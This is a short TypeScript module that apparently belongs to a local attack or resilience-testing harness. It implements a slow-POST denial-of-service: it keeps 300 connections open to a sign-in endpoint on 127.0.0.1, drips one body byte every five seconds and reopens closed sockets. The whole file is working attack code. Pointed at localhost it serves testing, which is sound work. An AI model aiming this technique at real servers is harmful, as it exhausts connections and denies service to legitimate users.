import { connect, type Socket } from 'node:net';
import { addressOf, type Attacking } from './attack.ts';

const OPEN_AT_ONCE = 300;
const BYTE_EVERY_MS = 5_000;

/** Keeps connections open that send an announced body one byte at a time; reopens closed ones. */
export function sendSlowly({ target, random }: Attacking): () => void {
  const sockets = new Set<Socket>();
  const open = () => {
    const socket = connect({ host: '127.0.0.1', port: target.port, localAddress: addressOf(random) });
    sockets.add(socket);
    socket.on('error', () => socket.destroy());
    socket.on('close', () => sockets.delete(socket));
    socket.resume();
    socket.write('POST /api/SignIn HTTP/1.1\r\nHost: nosh.localhost\r\nContent-Length: 900\r\n\r\n{');
  };
  const timer = setInterval(() => {
    for (const socket of sockets) socket.write(' ');
    for (let nth = sockets.size; nth < OPEN_AT_ONCE; nth += 1) open();
  }, BYTE_EVERY_MS);
  for (let nth = 0; nth < OPEN_AT_ONCE; nth += 1) open();
  return () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
  };
}
